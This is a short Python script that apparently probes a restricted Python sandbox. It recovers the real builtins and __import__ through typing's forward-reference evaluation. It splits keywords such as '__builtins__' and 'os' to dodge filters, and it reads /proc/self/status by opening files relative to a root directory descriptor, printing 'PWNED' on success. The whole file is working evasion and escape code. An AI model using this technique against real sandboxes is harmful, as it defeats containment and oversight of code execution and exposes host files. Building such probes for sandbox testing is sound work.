# fs: builtin open() with an opener that opens relative to a directory fd
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

try:
    root = o.open("/", o.O_RDONLY)
    with open("proc/self/status", opener=lambda p, fl: o.open(p, fl, dir_fd=root)) as f:
        print(M, f.read()[:80])
except Exception as e:
    print("refused:", type(e).__name__, e)
